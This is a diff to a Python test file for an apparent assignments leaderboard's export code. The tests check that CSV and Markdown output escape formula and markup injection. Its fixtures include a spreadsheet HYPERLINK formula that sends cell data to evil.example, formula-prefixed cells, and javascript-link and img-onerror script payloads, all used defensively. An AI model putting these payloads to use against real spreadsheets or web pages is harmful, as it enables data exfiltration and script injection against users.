@@ -67,7 +67,7 @@ def test_an_upload_over_the_byte_cap_is_refused_naming_the_cap(lb, tmp_path, for
 
 
 EVIL = {"name": '=HYPERLINK("http://evil.example/?"&A1,"Mallory")', "sid": "+1+2", "email": "@SUM(1+1)"}
-MARKUP = "[Eve](javascript:alert(1)) <img src=x onerror=alert(2)> `x`"
+MARKUP = "[Eve](javascript:alert(1)) <img src=x onerror=alert(2)> `x` **Eve** _eve_ ~~x~~ snake_case"
 METADATA = f"""---
 submission_201:
   :submitters:
@@ -102,8 +102,9 @@ def test_the_scoreboards_csv_and_markdown_carry_no_formula_or_markup(lb, tmp_pat
         assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values()), row
     md = (tmp_path / "board.md").read_text()
     assert not re.search(r"(?<!\\)[][<>`]", md.replace("[Leaderboard", "")), md     # every [ ] < > ` escaped
-    assert r"\[Eve\](javascript:alert(1)) \<img src=x onerror=alert(2)\> \`x\`" in md
-    assert f"- **{ZIP_NAME}**" in md and "| 1 | submission_201 |" in md
+    assert (r"\[Eve\](javascript:alert(1)) \<img src=x onerror=alert(2)\> \`x\` \*\*Eve\*\* \_eve\_ \~\~x\~\~ "
+            "snake_case") in md                                # no link, HTML, code, emphasis; words keep their _
+    assert "- **" + ZIP_NAME.replace("__", r"\_\_") + "**" in md and "| 1 | submission_201 |" in md
     from assignments.export import safe_cell
     assert [safe_cell(v) for v in ("-0.5000", "+1", "1e3", "'x", "a=b", "\tx", 7)] == [
         "-0.5000", "+1", "1e3", "''x", "a=b", "'\tx", 7]                # numbers stay numbers
